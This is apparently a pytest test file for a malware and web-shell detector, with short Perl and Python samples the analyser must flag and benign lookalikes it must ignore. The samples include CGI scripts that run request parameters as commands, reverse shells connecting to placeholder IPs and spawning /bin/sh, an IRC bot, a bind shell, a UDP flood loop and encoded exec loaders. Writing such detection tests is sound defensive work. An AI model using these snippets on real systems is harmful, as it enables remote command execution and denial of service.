from __future__ import annotations

import pytest

from pratique.content.base import Content
from pratique.content.identify import identify
from pratique.content.mark import Mark
from pratique.content.script.interpreted import ANALYSER


def seen(text, name):
    content = Content(text.encode(), f"/srv/{name}", identify(text.encode(), name))
    found = [one for one in ANALYSER.find(content) if isinstance(one, Mark)]
    return {one.mark for one in found if one.confidence >= 0.7}


@pytest.mark.parametrize(
    ("mark", "name", "text"),
    [
        ("page-runs-request", "a.pl", "use CGI;\nmy $c = param('c');\nprint `$c`;\n"),
        (
            "page-runs-request",
            "a.cgi",
            '#!/usr/bin/perl\n$q = $ENV{"QUERY_STRING"};\nsystem("$q 2>&1");\n',
        ),
        ("page-runs-request", "a.pl", "use CGI;\n$c = param('c');\nopen(F, \"$c |\");\n"),
        (
            "page-runs-request",
            "a.pl",
            "%F = parse($ENV{'QUERY_STRING'});\n$c = $F{'c'};\nopen(F, \"($c) 2>&1 |\");\n",
        ),
        (
            "script-connects-back",
            "a.pl",
            (
                "socket(S,PF_INET,SOCK_STREAM,$t);\nconnect(S,$a);\n"
                'open(STDIN,">&S");open(STDOUT,">&S");\nexec("/bin/sh -i");\n'
            ),
        ),
        (
            "script-runs-chat",
            "a.pl",
            (
                'use IO::Socket;\nprint $s "NICK $n\\n"; print $s "JOIN #x\\n";\n'
                "if ($l =~ /PRIVMSG/) { $c = $1; @r = `$c`; }\n"
            ),
        ),
        (
            "page-runs-request",
            "a.py",
            "import cgi, os\nform = cgi.FieldStorage()\nos.popen(form.getvalue('c')).read()\n",
        ),
        ("page-runs-request", "a.py", "import os\nos.system(os.environ['QUERY_STRING'])\n"),
        (
            "script-connects-back",
            "a.py",
            (
                "import socket,os,pty\ns=socket.socket()\ns.connect(('203.0.113.9',99))\n"
                "os.dup2(s.fileno(),0)\npty.spawn('/bin/sh')\n"
            ),
        ),
        (
            "script-runs-remote",
            "a.py",
            "import socket, subprocess\nc = s.recv(1024)\nsubprocess.Popen(c, shell=True)\n",
        ),
        (
            "script-floods",
            "a.py",
            (
                "import socket, random, sys\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
                "while True:\n    s.sendto(random.randbytes(9), (sys.argv[1], 53))\n"
            ),
        ),
        # Hashes indexed by a variable, read from the body of the request.
        (
            "page-runs-request",
            "a.cgi",
            (
                "#!/usr/bin/perl\nread(STDIN, $b, $ENV{CONTENT_LENGTH});\n@p = split(/&/, $b);\n"
                "foreach $x (@p) { ($n, $v) = split(/=/, $x);"
                " $v =~ s/%([0-9a-f]{2})/chr hex $1/egi; $in{$n} = $v; }\nprint `$in{cmd}`;\n"
            ),
        ),
        (
            "page-runs-request",
            "a.cgi",
            (
                "#!/usr/bin/perl\nforeach $pair (split(/&/, $ENV{'QUERY_STRING'})) {"
                " ($n, $v) = split(/=/, $pair); $f{$n} = $v }\nRunIt();\n"
                'sub RunIt { $run = $f{\'c\'}; $line = "cd / && " . $run; open(C, "$line |"); }\n'
            ),
        ),
        (
            "page-runs-request",
            "a.cgi",
            (
                '#!/usr/bin/perl\nprint << "[end of it]";\n<p>it\'s `odd`\n[end of it]\n'
                '$q = "$ENV{\'QUERY_STRING\'}";\nopen(F, "$q|");\n'
            ),
        ),
        (
            "page-runs-request",
            "a.cgi",
            (
                "#!/usr/bin/perl\nmy $q = $ENV{QUERY_STRING};\n"
                "if ($q =~ /do=(.*)/) { system($1); }\n"
            ),
        ),
        ("page-runs-request", "a.cgi", "#!/usr/bin/perl\nprint qx($ENV{HTTP_X_RUN});\n"),
        # a list of which the visitor names the program, or that starts a shell
        (
            "page-runs-request",
            "a.cgi",
            "#!/usr/bin/perl\nuse CGI; my $q = CGI->new;\n"
            "sub run { system @_; } run($q->param('c'));\n",
        ),
        (
            "page-runs-request",
            "a.cgi",
            "#!/usr/bin/perl\nuse CGI; my $q = CGI->new;\n"
            "my @c = ('sh', '-c', $q->param('c')); exec @c;\n",
        ),
        (
            "page-runs-request",
            "a.cgi",
            "#!/usr/bin/perl\nuse CGI; my $q = CGI->new;\n"
            "my @c = ('ls'); @c = ($q->param('c')); exec @c;\n",
        ),
        (
            "page-runs-request",
            "a.cgi",
            "#!/usr/bin/perl\nuse CGI;\nprint qx{$f{c}} if $f{c} = param('c');\n",
        ),
        (
            "page-runs-request",
            "a.pl",
            (
                "use CGI;\nsub run { my ($self, $line) = @_; system($line); }\n"
                "$it->run(param('c'));\n"
            ),
        ),
        (
            "page-runs-request",
            "a.pl",
            "use CGI;\nexec '/bin/sh', '-c', param('c');\n",
        ),
        (
            "script-runs-remote",
            "a.pl",
            (
                "use IO::Socket;\nmy $l = IO::Socket::INET->new(LocalPort => 4000, Listen => 1);\n"
                "while (my $c = $l->accept) { while (my $x = <$c>) { print $c `$x`; } }\n"
            ),
        ),
        (
            "script-runs-remote",
            "a.pl",
            (
                "use IO::Socket;\n$s = IO::Socket::INET->new('irc.example.net:6667');\n"
                "while (<$s>) { if (/PRIVMSG (\\S+) :!do (.*)/) { my @o = `$2`; } }\n"
            ),
        ),
        (
            "script-connects-back",
            "a.pl",
            (
                "use IO::Socket;\nmy $s = IO::Socket::INET->new(PeerAddr => '198.51.100.3');\n"
                "STDIN->fdopen($s, 'r'); STDOUT->fdopen($s, 'w'); system('/bin/sh -i');\n"
            ),
        ),
        (
            "script-connects-back",
            "a.pl",
            (
                "use Socket;\n$sh = \"PS1='\\$PWD '; export PS1; /bin/sh -i\";\nconnect(S, $a);\n"
                "open STDIN, '<&S'; open STDOUT, '>&S'; exec $sh || die();\n"
            ),
        ),
        (
            "script-runs-decoded",
            "a.pl",
            "use MIME::Base64;\neval(decode_base64('cHJpbnQgMTsgcHJpbnQgMjsgcHJpbnQgMzs='));\n",
        ),
        (
            "script-runs-decoded",
            "a.pl",
            "eval unpack u => q{5<')I;G0@,3L@<')I;G0@,CL@<')I;G0@,SL};\n",
        ),
        (
            "page-runs-request",
            "a.py",
            (
                "import sys, os\nprint('Content-type: text/html')\n"
                "d = sys.stdin.read(int(os.environ['CONTENT_LENGTH']))\nos.popen(d.spli"
                "t('=', 1)[1])\n"
            ),
        ),
        (
            "page-runs-request",
            "a.py",
            (
                "from http.server import BaseHTTPRequestHandler\nimport subprocess\n"
                "class A(BaseHTTPRequestHandler):\n    def do_POST(self):\n"
                "        b = self.rfile.read(9).decode()\n        subprocess.getoutput(b)\n"
            ),
        ),
        (
            "script-runs-decoded",
            "a.py",
            (
                "import zlib, base64, marshal\n"
                "exec(marshal.loads(zlib.decompress(base64.b64decode('eJxLyy9SSFTIzFMwN"
                "NEBABXOAyA='))))\n"
            ),
        ),
        (
            "script-runs-decoded",
            "a.py",
            (
                "_ = lambda x: __import__('zlib').decompress(__import__('base64').b64de"
                "code(x[::-1]))\n"
                "exec((_)(b'=AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA'))\n"
            ),
        ),
        (
            "script-runs-decoded",
            "a.py",
            "exec(''.join(chr(ord(c) ^ 7) for c in 'a text of some length'))\n",
        ),
    ],
)
def test_sees(mark, name, text):
    assert mark in seen(text, name)


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("a.pl", "my $x = shift;\nsystem('ls', $x);\n"),
        ("a.pl", "use CGI;\nmy $c = param('c');\nprint \"$c\";\nsystem('uptime');\n"),
        ("a.pl", "$h = $`; $q = $ENV{QUERY_STRING}; system('date');\n"),
        ("a.pl", "use Socket;\nsocket(S,PF_INET,SOCK_STREAM,$t);\nexec('/bin/sh', $ARGV[0]);\n"),
        ("a.pl", "use CGI;\nprint 1;\n__END__\nsystem(param('c'));\n"),
        ("a.py", "import subprocess, sys\nsubprocess.run(sys.argv[1:])\n"),
        ("a.py", "import socket, subprocess\ns.recv(9)\nsubprocess.run(['ls'])\n"),
        ("a.py", "import os\nos.system('ls ' + os.environ['HOME'])\n"),
        ("a.py", "x = StringIO()\nexec(compile(x.getvalue(), 'a', 'exec'))\n# chr("),
        ("a.pl", "use Socket; my ($a, $b) = f('a text that is long enough'); eval \"$a pack(\";\n"),
        (
            "a.py",
            "import subprocess\n"
            + "".join(f"def f{n}(): pass\n" for n in range(20))
            + "a = urlopen('http://example.org').read()\nsubprocess.Popen(a)\n",
        ),
        ("a.txt", "system(param('c'))"),
        # Started without a shell: the visitor gives a name, not a command.
        ("a.pl", "use CGI;\nsystem(tool(), 'show', param('c'));\n"),
        ("a.pl", "use CGI;\nopen my $f, '-|', tool(), 'show', param('c');\n"),
        (
            "a.pl",
            (
                "use CGI;\nIPC::Open3::open3(\\*A, \\*B, '', split /\\s+/, \"tool -u $u"
                "\");$u = param('u');\n"
            ),
        ),
        ("a.pl", "use CGI;\nopen my $f, shell_quote('tool', param('c')) . ' |';\n"),
        # What matches a strict pattern is not what the visitor likes.
        # a list of which the program names the program
        (
            "a.cgi",
            "#!/usr/bin/perl\nuse CGI; my $q = CGI->new;\n"
            "sub run { system @_; } run('vcs', 'add', $q->param('n'));\n",
        ),
        (
            "a.cgi",
            "#!/usr/bin/perl\nuse CGI; my $q = CGI->new;\n"
            "my @c = ('vcs', '-q'); push @c, $q->param('n'); exec @c;\n",
        ),
        (
            "a.cgi",
            '#!/usr/bin/perl\nif ($ENV{QUERY_STRING} =~ /^([a-z]+)$/) { system("ls $1"); }\n',
        ),
        # A table of the program's own is asked.
        (
            "a.pl",
            (
                "use CGI;\nsub kind_of { my ($name) = @_; return undef unless $name;"
                " return $kinds{$name} if exists $kinds{$name}; return undef; }\n"
                "my $kind = kind_of(param('f')); open(F, \"tool --kind $kind |\");\n"
            ),
        ),
        (
            "a.pl",
            "use Conf;\n$x = $self->{c}->get('a');\nmy $re = eval \"qr{$x}\"; # socket /bin/\n",
        ),
        (
            "a.py",
            (
                "import zlib\ncode = zlib.decompress(f.read())\ncode = g(code)\n"
                "code = compile(code, 'a', 'exec')\nexec(code, m.__dict__)\n"
            ),
        ),
        (
            "a.py",
            (
                "import subprocess\n"
                + "".join(f"def f{n}(self): pass\n" for n in range(30))
                + "a = self.rfile.read(9)  # requesthandler\nsubprocess.Popen(a)\n"
            ),
        ),
    ],
)
def test_leaves_alone(name, text):
    assert seen(text, name) == set()
